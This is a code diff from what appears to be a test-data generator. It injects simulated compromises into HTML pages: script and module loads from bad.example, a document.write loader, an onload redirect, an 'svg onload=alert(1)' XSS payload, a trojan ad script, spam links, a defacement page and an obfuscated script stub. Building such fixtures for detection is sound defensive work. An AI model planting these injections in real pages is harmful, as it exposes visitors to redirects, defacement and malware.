@@ -15,13 +15,14 @@ export interface BadChange {
   readonly isHuge?: boolean
 }
 
+/** A page may well have neither head nor body in its source. */
+const afterTitle = (html: string, add: string) => html.replace(/<\/title>/i, (tag) => tag + add)
 const headEnd = (html: string, add: string) =>
-  /<\/head>/i.test(html)
-    ? html.replace(/<\/head>/i, (tag) => add + tag)
-    : html.replace(/<body/i, (tag) => add + tag)
+  /<\/head>|<body/i.test(html) ? html.replace(/<\/head>|<body/i, (tag) => add + tag) : afterTitle(html, add)
 const bodyEnd = (html: string, add: string) =>
   /<\/body>/i.test(html) ? html.replace(/<\/body>/i, (tag) => add + tag) : html + add
-const bodyStart = (html: string, add: string) => html.replace(/<body[^>]*>/i, (tag) => tag + add)
+const bodyStart = (html: string, add: string) =>
+  /<body/i.test(html) ? html.replace(/<body[^>]*>/i, (tag) => tag + add) : afterTitle(html, add)
 const inText = (html: string, add: string) => {
   const places = [...html.matchAll(/<\/(?:p|h1|h2|figure|li)>/gi)]
   const place = places[Math.floor(places.length / 2)]
@@ -57,6 +58,81 @@ const obfuscated = (random: Random) =>
   `var _0x${hex(random, 4)}=["\\x68\\x74\\x74\\x70\\x73\\x3A\\x2F","\\x73\\x63\\x72"];(function(_0x1a,_0x2b){var _0x3c=function(_0x4d){while(--_0x4d){_0x1a['push'](_0x1a['shift']());}};_0x3c(++_0x2b);}(_0x${hex(random, 4)},0x1f4));`
 
 export const badChanges: readonly BadChange[] = [
+  {
+    name: '# three hundred times',
+    fits: text,
+    apply: (html) => inText(html, `<div>${'#'.repeat(300)}</div>`),
+  },
+  { name: '# in the title', apply: (html) => html.replace(/(<title[^>]*>)[^<]*/i, `$1${'#'.repeat(2000)}`) },
+  {
+    name: '# for every word',
+    fits: text,
+    apply: (html) => html.replace(/>[^<]{4,}</g, (words) => words.replace(/\w+/g, '#')),
+  },
+  {
+    name: 'own links led elsewhere',
+    fits: (style) =>
+      [
+        'wordpress-post',
+        'static-post',
+        'next-blog',
+
+        'latest-post',
+        'shopify-product',
+        'builder',
+      ].includes(style.name),
+    apply: (html, _random, scene) =>
+      html
+        .replaceAll(`https://${scene.domain}/`, '/')
+        .replace(/(<a [^>]*href=["']?)[/#][^"'\s>]*/gi, '$1https://cheap.bad.example/go'),
+  },
+  {
+    name: 'links of spammers in the footer',
+    fits: text,
+    apply: (html) =>
+      bodyEnd(
+        html,
+        '<div class="foot"><a href="https://pills-24.example/">Cheap Viagra</a> <a href="https://bets-24.example/">Best online casino</a></div>',
+      ),
+  },
+  {
+    name: 'a module from elsewhere',
+    apply: (html) =>
+      bodyEnd(html, '<script type="module">import { run } from "https://bad.example/m.js"; run()</script>'),
+  },
+  {
+    name: 'a script written by a script',
+    apply: (html) =>
+      headEnd(html, `<script>document.write('<scr'+'ipt src="//bad.example/w.js"></scr'+'ipt>')</script>`),
+  },
+  {
+    name: 'a background without encryption',
+    fits: (style) => style.name !== 'old-tables',
+    apply: (html) => inText(html, '<div style="background:url(http://img.pictures.example/bg.jpg)">.</div>'),
+  },
+  {
+    name: 'pictures without encryption in a set',
+    fits: (style) => style.name !== 'old-tables',
+    apply: (html) => inText(html, '<img srcset="http://img.pictures.example/a.jpg 1x" src="/a.jpg" alt="">'),
+  },
+  {
+    name: 'hacked, under the same title',
+    fits: text,
+    apply: (html, _random, _scene, page) =>
+      page(
+        /<title[^>]*>([^<]*)/i.exec(html)?.[1] ?? '',
+        '<h2>Hacked by NoName</h2><p>Your files are ours.</p>',
+      ),
+  },
+  {
+    name: 'another advertiser’s script',
+    fits: (style) => style.name === 'small',
+    apply: (html) =>
+      html.replace(
+        /<div class="ad">[\s\S]*?<\/div>/,
+        '<div class="ad"><script src="https://trojan-ads.example/show.js"></script></div>',
+      ),
+  },
   // Scripts
   {
     name: 'a script from elsewhere in the head',
@@ -209,7 +285,11 @@ export const badChanges: readonly BadChange[] = [
   {
     name: 'a handler of the page',
     early: true,
-    apply: (html) => html.replace(/<body/i, `<body onload="location.replace('https://bad.example/')"`),
+    apply: (html) =>
+      (/<body/i.test(html) ? html : afterTitle(html, '<body>')).replace(
+        /<body/i,
+        `<body onload="location.replace('https://bad.example/')"`,
+      ),
   },
   { name: 'a small handler', apply: (html) => inText(html, `<svg onload=alert(1)>`) },
   {
@@ -369,7 +449,10 @@ export const badChanges: readonly BadChange[] = [
   },
   {
     name: 'a script without encryption',
-    fits: (style) => style.has.thirdParty && style.name !== 'old-tables' && style.name !== 'shopify-product',
+    fits: (style) =>
+      style.has.thirdParty &&
+      !['old-tables', 'small'].includes(style.name) &&
+      style.name !== 'shopify-product',
     early: true,
     apply: (html) => html.replace(/(<script[^>]*src=")https:/i, '$1http:'),
   },
